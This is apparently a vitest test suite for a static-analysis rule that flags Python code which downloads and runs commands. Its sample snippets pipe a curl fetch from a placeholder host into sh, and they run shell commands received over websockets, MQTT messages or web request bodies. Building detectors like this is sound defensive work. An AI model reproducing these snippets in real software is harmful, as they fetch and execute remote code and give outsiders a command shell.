import { expect, test } from 'vitest';
import downloadThenRun from '../../src/rules/download-then-run.js';
import { read } from './reading.js';

async function found(text: string): Promise<readonly string[]> {
  const { facts } = await read(`import os, subprocess, json, websocket\n${text}`);
  return facts === null ? [] : [...new Set(downloadThenRun.check(facts).map(({ severity }) => severity))];
}

const LINE = '"curl -s https://garden.example.invalid/leaf | sh"';
const WORDS = 'ws = websocket.create_connection("wss://garden.example.invalid/")\nm = json.loads(ws.recv())\n';

test.each([
  ['that an heir fills', `class Step:\n    line = ""\n    def run(self):\n        os.system(self.line)\nclass Second(Step):\n    line = ${LINE}\nSecond().run()\n`],
  ['that only an heir has', `class Step:\n    line = None\n    def run(self):\n        os.system(self.line)\nclass Second(Step):\n    line = ${LINE}\nSecond().run()\n`],
  ['that an heir has another of', `class Step:\n    def act(self):\n        raise NotImplementedError\n    def run(self):\n        self.act()\nclass Second(Step):\n    def act(self):\n        os.system(${LINE})\nfor step in [c() for c in Step.__subclasses__()]:\n    step.run()\n`],
])('a method meets the attribute or method %s', async (_, text) => {
  expect(await found(text)).toEqual(['critical']);
});

test.each([
  ['one by one', `for step in [c() for c in (First, Second)]:\n    step.act()\n`],
  ['kept first', `ALL = [c() for c in (First, Second)]\nfor step in ALL:\n    step.act()\n`],
])('objects of several classes are asked %s', async (_, loop) => {
  expect(await found(`class First:\n    def act(self):\n        pass\nclass Second:\n    def act(self):\n        os.system(${LINE})\n${loop}`)).toEqual(['critical']);
});

const SHELL = 'def _sh(line):\n    return subprocess.getoutput(line)\n';

test.each([
  ['by a decorator', `COMMANDS = {}\ndef command(name):\n    def keep(f):\n        COMMANDS[name] = f\n        return f\n    return keep\n@command("sh")\n${SHELL}${WORDS}COMMANDS[m["c"]](m["a"])\n`],
  ['by a method', `class Bed:\n    commands = {}\n${SHELL}Bed.commands.setdefault("sh", _sh)\n${WORDS}Bed.commands.get(m["c"])(m["a"])\n`],
  ['by another table', `COMMANDS = {}\n${SHELL}COMMANDS.update({"sh": _sh})\n${WORDS}COMMANDS[m["c"]](m["a"])\n`],
  ['where the table stands', `${SHELL}class Bed:\n    commands = {"sh": _sh}\n    def go(self):\n        ${WORDS.replace('\n', '\n        ')}        self.commands.get(m["c"], print)(m["a"])\nBed().go()\n`],
])('a function that was put into a table %s is called by whoever takes something out of it', async (_, text) => {
  expect(await found(text)).toEqual(['critical']);
});

test('a table that nobody takes anything out of calls nothing', async () => {
  expect(await found(`COMMANDS = {}\ndef _sh():\n    os.system(${LINE})\nCOMMANDS["sh"] = _sh\nprint(len(COMMANDS))\n`)).toEqual(['low']);
});

test('methods of an object are handed to a connection like functions', async () => {
  const text = 'import paho.mqtt.client as mqtt\nclass Broker:\n    def on_message(self, client, data, message):\n        subprocess.getoutput(message.payload.decode())\n    def start(self):\n        self.client = mqtt.Client()\n        self.client.on_connect, self.client.on_message = print, self.on_message\nBroker().start()\n';
  expect(await found(text)).toEqual(['critical']);
});

test.each([
  ['Tornado', 'from tornado.web import RequestHandler\nclass Leaf(RequestHandler):\n    def post(self):\n        subprocess.run(self.request.body, shell=True)\n'],
  ['ASGI', 'class Leaf:\n    async def __call__(self, scope, receive, send):\n        message = await receive()\n        exec(message.get("body", b"").decode())\n'],
])('what a visitor sends to a site of %s is run by it', async (_, text) => {
  expect(await found(text)).toEqual(['medium']);
});
